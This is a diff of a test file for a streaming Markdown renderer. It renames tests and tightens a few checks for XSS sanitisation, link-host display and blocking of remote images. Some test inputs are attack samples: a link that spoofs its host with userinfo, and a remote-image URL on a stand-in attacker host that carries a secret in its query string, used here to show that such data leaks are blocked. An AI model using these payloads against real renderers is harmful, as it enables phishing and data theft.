@@ -11,7 +11,7 @@ const TAGS = new Set(
 const ATTRIBUTES = new Set(["href", "title", "class", "src", "alt", "start", "rel", "target", "tabindex", "aria-label", "role", "type"]);
 const CLASSES = /^(?:(?:md|language|hljs)[\w+#.-]*|code|code-head|code-copy)$/;
 
-/** Everything in it that could do more than be read. */
+/** Everything in it that could do something. */
 function dangersIn(root: ParentNode): string[] {
   return [...root.querySelectorAll("*")].flatMap((element) => {
     const found = TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`];
@@ -45,18 +45,18 @@ function streamed(text: string, pieces: number): HTMLElement {
 
 afterEach(() => vi.restoreAllMocks());
 
-describe("what others wrote", () => {
-  test("there are enough attacks to try", () => {
+describe("untrusted text", () => {
+  test("there are enough attacks to test", () => {
     expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(300);
   });
 
-  test("nothing that can do anything survives, whole", { timeout: 60_000 }, () => {
+  test("nothing active survives in the complete text", { timeout: 60_000 }, () => {
     const alarm = vi.spyOn(window, "alert").mockImplementation(() => undefined);
     for (const attack of ATTACKS) expect([attack, dangersIn(rendered(attack))]).toEqual([attack, []]);
     expect(alarm).not.toHaveBeenCalled();
   });
 
-  test("nothing that can do anything is there for a moment, while it streams", { timeout: 60_000 }, () => {
+  test("nothing active appears at any moment while it streams", { timeout: 60_000 }, () => {
     for (const attack of ATTACKS) {
       const root = document.createElement("div");
       const drawing = new StreamedMarkdown(root);
@@ -79,34 +79,34 @@ describe("what others wrote", () => {
 });
 
 describe("links and pictures", () => {
-  test("a link says where it leads", () => {
+  test("a link shows its destination", () => {
     const fragment = rendered("[click](https://evil.example/a?b)");
     expect(fragment.querySelector("a")?.href).toBe("https://evil.example/a?b");
     expect(fragment.querySelector(".md-host")?.textContent).toBe("evil.example");
   });
 
-  test("words that name another place do not hide the real one", () => {
+  test("link text that names another address does not hide the real one", () => {
     expect(rendered("[https://good.example](https://evil.example)").querySelector(".md-host")?.textContent).toBe("evil.example");
     expect(rendered("[x](https://good.example@evil.example/)").querySelector(".md-host")?.textContent).toBe("evil.example");
   });
 
-  test("a bare address is not said twice", () => {
+  test("a bare address is not shown twice", () => {
     expect(rendered("https://a.example/x").querySelector(".md-host")).toBeNull();
   });
 
-  test("what leads nowhere on the web is no link", () => {
+  test("anything that is not a web address does not become a link", () => {
     const fragment = rendered("[main.py](src/main.py) and [x](//evil.example)");
     expect(fragment.querySelector("a")).toBeNull();
     expect(fragment.querySelector(".md-path")?.textContent).toBe("main.py");
   });
 
-  test("a remote picture is named, not fetched", () => {
+  test("a remote image is named, not fetched", () => {
     const fragment = rendered("![a chart](https://evil.example/?q=SECRET)");
     expect(fragment.querySelector("img")).toBeNull();
     expect(fragment.textContent).toContain("Remote image blocked: a chart");
   });
 
-  test("a picture inside the text is shown", () => {
+  test("an inline image is shown", () => {
     expect(rendered("![dot](data:image/png;base64,AAAA)").querySelector("img")?.alt).toBe("dot");
   });
 });
@@ -116,11 +116,11 @@ describe("streaming", () => {
     "# Title\n\nSome **bold** words and `code`.\n\n- one\n- two\n\n  still two\n\n1. first\n2. second\n\n" +
     "```js\nconst a = 1;\n\nconst b = 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quoted\n> more\n\nThe end, [here](https://a.example).";
 
-  test.each([1, 3, 7, 20, 60])("in %i pieces gives the same as at once", (pieces) => {
+  test.each([1, 3, 7, 20, 60])("%i pieces give the same result as one", (pieces) => {
     expect(streamed(text, pieces).innerHTML).toBe(htmlOf(text));
   });
 
-  test("windows line ends make no difference", () => {
+  test("Windows line endings make no difference", () => {
     expect(streamed(text.replaceAll("\n", "\r\n"), 11).innerHTML).toBe(htmlOf(text));
   });
 
@@ -134,7 +134,7 @@ describe("streaming", () => {
     expect(root.firstElementChild).toBe(first);
   });
 
-  test("unfinished emphasis is shown as it will be", () => {
+  test("unfinished emphasis is shown as emphasis", () => {
     const root = document.createElement("div");
     new StreamedMarkdown(root).update("this is **bo", false);
     expect(root.querySelector("strong")?.textContent).toBe("bo");
@@ -152,7 +152,7 @@ describe("streaming", () => {
     expect(root.querySelector(".code-head")?.textContent).toContain("py");
   });
 
-  test("a text that seemed finished may go on anywhere", { timeout: 60_000 }, () => {
+  test("a text that seemed finished may continue anywhere", { timeout: 60_000 }, () => {
     const whole = htmlOf(text);
     for (let cut = 4; cut < text.length; cut += 23) {
       const root = document.createElement("div");
@@ -164,7 +164,7 @@ describe("streaming", () => {
     }
   });
 
-  test("a text that was replaced is drawn anew", () => {
+  test("a replaced text is drawn again", () => {
     const root = document.createElement("div");
     const drawing = new StreamedMarkdown(root);
     drawing.update("one\n\ntwo\n\nthree\n\nfour", false);
@@ -177,9 +177,10 @@ describe("streaming", () => {
     expect(root.querySelector("a")?.href).toBe("https://docs.example/");
   });
 
-  test("a monstrous paragraph is shown as it stands", () => {
+  test("a huge paragraph is shown as plain text", () => {
     const root = document.createElement("div");
-    new StreamedMarkdown(root).update("*a ".repeat(100_000), true);
-    expect(root.textContent).toHaveLength(300_000);
+    const text = "*a ".repeat(100_000);
+    new StreamedMarkdown(root).update(text, true);
+    expect(root.textContent).toContain(text);
   });
 });
